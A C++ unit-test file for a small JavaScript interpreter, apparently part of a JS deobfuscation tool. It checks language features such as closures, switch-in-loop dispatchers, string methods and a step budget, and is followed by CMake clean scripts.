  EXPECT_EQ(run_one("function add(a, b) { return a + b; } console.log(add(2, 3));"),
            "5");
  EXPECT_EQ(run_one(R"(
    function counter() {
      var n = 0;
      return function () { n += 1; return n; };
    }
    var c = counter();
    c(); c();
    console.log(c());
  )"),
            "3");
}

TEST(Interp, ArrowFunctions) {
  EXPECT_EQ(run_one("var f = x => x * 2; console.log(f(21));"), "42");
  EXPECT_EQ(run_one("var g = (a, b) => { return a - b; }; console.log(g(5, 3));"),
            "2");
}

TEST(Interp, DefaultAndRestParams) {
  EXPECT_EQ(run_one("function f(a, b = 10) { return a + b; } console.log(f(1));"),
            "11");
  EXPECT_EQ(
      run_one("function f(...xs) { return xs.length; } console.log(f(1,2,3));"),
      "3");
}

TEST(Interp, Recursion) {
  EXPECT_EQ(run_one(R"(
    function fib(n) { return n < 2 ? n : fib(n - 1) + fib(n - 2); }
    console.log(fib(12));
  )"),
            "144");
}

TEST(Interp, ControlFlow) {
  EXPECT_EQ(run_one("var r = ''; for (var i = 0; i < 4; i++) r += i; console.log(r);"),
            "0123");
  EXPECT_EQ(run_one("var n = 0; while (n < 5) n++; console.log(n);"), "5");
  EXPECT_EQ(run_one("var n = 9; do { n++; } while (false); console.log(n);"),
            "10");
  EXPECT_EQ(run_one("if (1 > 2) console.log('a'); else console.log('b');"), "b");
}

TEST(Interp, BreakContinue) {
  EXPECT_EQ(run_one(R"(
    var s = '';
    for (var i = 0; i < 6; i++) {
      if (i === 2) continue;
      if (i === 5) break;
      s += i;
    }
    console.log(s);
  )"),
            "0134");
}

TEST(Interp, SwitchWithFallthrough) {
  EXPECT_EQ(run_one(R"(
    var out = '';
    switch (2) {
      case 1: out += 'a';
      case 2: out += 'b';
      case 3: out += 'c'; break;
      case 4: out += 'd';
    }
    console.log(out);
  )"),
            "bc");
  EXPECT_EQ(run_one(R"(
    switch ('zz') { case 'a': console.log('a'); break;
                    default: console.log('dflt'); }
  )"),
            "dflt");
}

TEST(Interp, SwitchInLoopDispatcher) {
  // The exact control-flow-flattening shape.
  EXPECT_EQ(run_one(R"(
    var order = "2|0|1".split("|"), step = 0, out = "";
    while (true) {
      switch (order[step++]) {
        case "0": out += "B"; continue;
        case "1": out += "C"; continue;
        case "2": out += "A"; continue;
      }
      break;
    }
    console.log(out);
  )"),
            "ABC");
}

TEST(Interp, ObjectsAndMembers) {
  EXPECT_EQ(run_one("var o = { a: 1, b: { c: 2 } }; console.log(o.a + o.b.c);"),
            "3");
  EXPECT_EQ(run_one("var o = {}; o.x = 5; o['y'] = 6; console.log(o.x * o['y']);"),
            "30");
  EXPECT_EQ(run_one("var k = 'dyn'; var o = { [k]: 7 }; console.log(o.dyn);"),
            "7");
  EXPECT_EQ(run_one("var a = 1; var o = { a }; console.log(o.a);"), "1");
}

TEST(Interp, Arrays) {
  EXPECT_EQ(run_one("var a = [1, 2, 3]; console.log(a.length);"), "3");
  EXPECT_EQ(run_one("var a = [1, 2]; a.push(3); console.log(a.join('-'));"),
            "1-2-3");
  EXPECT_EQ(run_one("var a = [5, 6]; console.log(a[0] + a[1]);"), "11");
  EXPECT_EQ(run_one("console.log([3, 1, 2].sort().join(''));"), "123");
  EXPECT_EQ(run_one("console.log([1, 2, 3].map(x => x * x).join(','));"),
            "1,4,9");
  EXPECT_EQ(run_one("console.log([1,2,3,4].filter(x => x % 2 === 0).length);"),
            "2");
  EXPECT_EQ(run_one("console.log([1,2,3].reduce((a, b) => a + b, 10));"), "16");
  EXPECT_EQ(run_one("console.log([...[1,2], 3].length);"), "3");
}

TEST(Interp, StringMethods) {
  EXPECT_EQ(run_one("console.log('a,b,c'.split(',').length);"), "3");
  EXPECT_EQ(run_one("console.log('hello'.charAt(1));"), "e");
  EXPECT_EQ(run_one("console.log('A'.charCodeAt(0));"), "65");
  EXPECT_EQ(run_one("console.log(String.fromCharCode(72, 105));"), "Hi");
  EXPECT_EQ(run_one("console.log('hello'.indexOf('ll'));"), "2");
  EXPECT_EQ(run_one("console.log('abcdef'.slice(1, 4));"), "bcd");
  EXPECT_EQ(run_one("console.log('abcdef'.substr(2, 2));"), "cd");
  EXPECT_EQ(run_one("console.log('aXa'.replace('X', 'b'));"), "aba");
  EXPECT_EQ(run_one("console.log('abc'.split('').reverse().join(''));"), "cba");
  EXPECT_EQ(run_one("console.log('ab'.toUpperCase());"), "AB");
  EXPECT_EQ(run_one("console.log('5'.padStart(3, '0'));"), "005");
}

TEST(Interp, TemplateLiterals) {
  EXPECT_EQ(run_one("var n = 6; console.log(`got ${n * 7} items`);"),
            "got 42 items");
}

TEST(Interp, Ternary) {
  EXPECT_EQ(run_one("console.log(3 > 2 ? 'yes' : 'no');"), "yes");
}

TEST(Interp, LogicalShortCircuit) {
  EXPECT_EQ(run_one("var n = 0; false && n++; console.log(n);"), "0");
  EXPECT_EQ(run_one("var n = 0; true || n++; console.log(n);"), "0");
  EXPECT_EQ(run_one("console.log(null ?? 'fallback');"), "fallback");
  EXPECT_EQ(run_one("console.log(0 ?? 'fallback');"), "0");
}

TEST(Interp, TryCatchThrow) {
  EXPECT_EQ(run_one(R"(
    try { throw 'boom'; } catch (e) { console.log('caught ' + e); }
  )"),
            "caught boom");
  EXPECT_EQ(run_one(R"(
    var out = '';
    try { out += 'a'; } finally { out += 'b'; }
    console.log(out);
  )"),
            "ab");
}

TEST(Interp, UncaughtThrowReported) {
  const RunResult result = run_program_source("throw 'oops';");
  EXPECT_FALSE(result.ok);
  EXPECT_NE(result.error.find("oops"), std::string::npos);
}

TEST(Interp, ReferenceErrorReported) {
  const RunResult result = run_program_source("console.log(missing);");
  EXPECT_FALSE(result.ok);
  EXPECT_NE(result.error.find("missing"), std::string::npos);
}

TEST(Interp, TypeofUndeclared) {
  EXPECT_EQ(run_one("console.log(typeof neverDeclared);"), "undefined");
}

TEST(Interp, ForInForOf) {
  EXPECT_EQ(run_one(R"(
    var o = { a: 1, b: 2 };
    var keys = '';
    for (var k in o) keys += k;
    console.log(keys);
  )"),
            "ab");
  EXPECT_EQ(run_one(R"(
    var total = 0;
    for (const v of [1, 2, 3]) total += v;
    console.log(total);
  )"),
            "6");
}

TEST(Interp, Destructuring) {
  EXPECT_EQ(run_one("var [a, b] = [1, 2]; console.log(a + b);"), "3");
  EXPECT_EQ(run_one("var { x, y: z } = { x: 4, y: 5 }; console.log(x + z);"),
            "9");
  EXPECT_EQ(run_one("var [p, ...rest] = [1, 2, 3]; console.log(rest.length);"),
            "2");
}

TEST(Interp, ThisAndNew) {
  EXPECT_EQ(run_one(R"(
    function Point(x, y) { this.x = x; this.y = y; }
    var p = new Point(3, 4);
    console.log(p.x + p.y);
  )"),
            "7");
  EXPECT_EQ(run_one(R"(
    var obj = { n: 5, get: function () { return this.n; } };
    console.log(obj.get());
  )"),
            "5");
}

TEST(Interp, CallApplyBind) {
  EXPECT_EQ(run_one(R"(
    function who() { return this.name; }
    console.log(who.call({ name: 'x' }));
  )"),
            "x");
  EXPECT_EQ(run_one(R"(
    function sum(a, b) { return a + b; }
    console.log(sum.apply(null, [2, 5]));
  )"),
            "7");
  EXPECT_EQ(run_one(R"(
    function mul(a, b) { return a * b; }
    var double = mul.bind(null, 2);
    console.log(double(8));
  )"),
            "16");
}

TEST(Interp, ArgumentsObject) {
  EXPECT_EQ(run_one(R"(
    function count() { return arguments.length; }
    console.log(count(1, 'a', true));
  )"),
            "3");
}

TEST(Interp, NumberMethods) {
  EXPECT_EQ(run_one("console.log((255).toString(16));"), "ff");
  EXPECT_EQ(run_one("console.log((3.14159).toFixed(2));"), "3.14");
  EXPECT_EQ(run_one("console.log(parseInt('2a', 16));"), "42");
  EXPECT_EQ(run_one("console.log(parseInt('12px'));"), "12");
}

TEST(Interp, MathBuiltins) {
  EXPECT_EQ(run_one("console.log(Math.floor(2.7));"), "2");
  EXPECT_EQ(run_one("console.log(Math.max(1, 9, 4));"), "9");
  EXPECT_EQ(run_one("console.log(Math.abs(-6));"), "6");
}

TEST(Interp, JsonStringify) {
  EXPECT_EQ(run_one("console.log(JSON.stringify([1, 'a', true]));"),
            "[1,\"a\",true]");
  EXPECT_EQ(run_one("console.log(JSON.stringify({ b: 1, a: 2 }));"),
            "{\"a\":2,\"b\":1}");
}

TEST(Interp, StepBudgetStopsInfiniteLoops) {
  InterpreterOptions options;
  options.step_budget = 10'000;
  const RunResult result = run_program_source("while (true) {}", options);
  EXPECT_FALSE(result.ok);
  EXPECT_NE(result.error.find("budget"), std::string::npos);
}

TEST(Interp, IifePattern) {
  EXPECT_EQ(run_one("(function () { console.log('run'); })();"), "run");
}

TEST(Interp, SequenceAndComma) {
  EXPECT_EQ(run_one("var x = (1, 2, 3); console.log(x);"), "3");
}

TEST(Interp, UpdateExpressions) {
  EXPECT_EQ(run_one("var i = 5; console.log(i++ + i);"), "11");
  EXPECT_EQ(run_one("var i = 5; console.log(++i + i);"), "12");
}

TEST(Interp, CompoundAssignments) {
  EXPECT_EQ(run_one("var a = 4; a *= 3; a -= 2; console.log(a);"), "10");
  EXPECT_EQ(run_one("var s = 'a'; s += 'b'; console.log(s);"), "ab");
}

TEST(Interp, DeleteProperty) {
  EXPECT_EQ(run_one("var o = { a: 1 }; delete o.a; console.log(typeof o.a);"),
            "undefined");
}

}  // namespace
}  // namespace jst::interp
