file(REMOVE_RECURSE
  "libjst_corpus.a"
)
