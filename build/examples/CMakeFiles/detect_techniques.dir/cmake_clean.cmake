file(REMOVE_RECURSE
  "CMakeFiles/detect_techniques.dir/detect_techniques.cpp.o"
  "CMakeFiles/detect_techniques.dir/detect_techniques.cpp.o.d"
  "detect_techniques"
  "detect_techniques.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/detect_techniques.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
